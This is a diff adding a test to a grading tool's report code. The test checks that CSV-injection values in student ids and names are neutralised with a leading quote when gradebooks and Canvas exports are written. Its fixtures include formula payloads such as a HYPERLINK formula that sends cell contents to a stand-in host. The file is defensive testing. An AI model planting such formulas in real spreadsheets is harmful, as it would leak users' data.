@@ -1,13 +1,23 @@
 /**
  * The engines' formats without running the grader: Classroom's entries for cases that timed out,
- * crashed or did not run; the late policy; the Canvas import. (engines.test.ts runs the bundles.)
+ * crashed or did not run; the late policy; the Canvas import; CSV injection through the files an
+ * instructor opens in a spreadsheet. (engines.test.ts runs the bundles.)
  */
 import { test } from "uvu";
 import * as assert from "uvu/assert";
 import { canvasCsv, latePenalty, parseLatePolicy, prairielearnResults, readRoster } from "../engines";
 import type { GradedCase } from "../harness/evaluate";
 import { parseArgs } from "../grade";
-import { classroomResult, gradescopeResults, type StudentResult } from "../reports";
+import {
+  classroomResult,
+  csvField,
+  gradebookCsv,
+  gradescopeResults,
+  manualTemplate,
+  parseCsv,
+  readManualScores,
+  type StudentResult,
+} from "../reports";
 
 const student = (id: string, score: number, cases: GradedCase[] = []): StudentResult =>
   ({
@@ -165,6 +175,43 @@ test("PrairieLearn: a submission without any exercise cell is not gradable (the 
       [0, 2],
     ],
   );
+});
+
+test("CSV injection: a formula-like student id or name is written after a ' in every CSV, and reads back as it was", () => {
+  // A notebook named `=HYPERLINK(…).ipynb` is the student id of a class folder's entry.
+  const texts = [
+    '=HYPERLINK("http://x.test/?"&A1,"点我")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tTab",
+    "\r=CR",
+    "'=once",
+    "''+twice",
+    "'quote",
+    "plain",
+  ];
+  for (const t of texts) {
+    const field = csvField(t);
+    assert.not.ok(/^"?[=+\-@\t\r]/.test(field), `${JSON.stringify(t)} is written as ${JSON.stringify(field)}`);
+    assert.equal(parseCsv(`${field},x\n`), [[t, "x"]], `${JSON.stringify(t)} reads back`);
+  }
+  assert.is(csvField("'quote"), "'quote", "a plain text starting with ' is left alone");
+  assert.is(csvField(-2), "-2", "numbers are written as they are");
+  const evil = student(texts[0], 3);
+  const book = gradebookCsv([evil], new Map());
+  assert.ok(book.split("\n")[1].startsWith(`"'=HYPERLINK(`), book);
+  // The manual-scores template, scored by hand, merges back onto the same student.
+  const template = manualTemplate([evil]).replace(/,2,,$/m, ",2,1,");
+  const merged = readManualScores(template, new Map([["6.4.2", 2]]));
+  assert.equal(merged.errors, []);
+  assert.is(merged.scores.get(texts[0])?.get("6.4.2"), 1);
+  // canvas.csv: a roster name from Canvas is guarded too; the grade still lands on its row.
+  const header = "Student,ID,SIS User ID,SIS Login ID,Section";
+  const roster = readRoster(`${header}\n"=1+1",7,,${csvField(texts[0])},A\n`, "r.csv");
+  assert.is(roster[0]["SIS Login ID"], texts[0]);
+  const canvas = canvasCsv([evil], new Map(), roster);
+  assert.is(canvas.csv.trim().split("\n")[2], `'=1+1,7,,"'=HYPERLINK(""http://x.test/?""&A1,""点我"")",A,3,`);
 });
 
 test.run();
